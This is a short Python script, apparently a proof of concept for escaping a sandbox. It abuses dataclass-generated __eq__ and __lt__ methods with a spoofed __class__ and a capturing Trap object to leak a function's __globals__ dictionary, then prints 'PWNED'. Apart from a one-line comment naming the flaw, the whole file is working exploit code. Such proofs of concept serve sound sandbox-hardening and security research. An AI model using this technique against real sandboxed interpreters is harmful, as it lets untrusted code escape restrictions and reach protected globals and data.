# The methods that dataclass() makes are compiled unguarded, and take any object for self.
import dataclasses
import json

got = []


class Trap:
    def __eq__(self, other):
        got.append(other)
        return True

    def __gt__(self, other):
        got.append(other)
        return True

    __hash__ = None


def function():
    pass


@dataclasses.dataclass(order=True)
class Reads:
    __globals__: dict


class Other:
    __class__ = type(function)
    __globals__ = Trap()


for attempt in (lambda: Reads.__eq__(function, Other()), lambda: Reads.__lt__(function, Other())):
    try:
        attempt()
    except Exception:
        pass
if got:
    print("PWNED", len(got[0]))
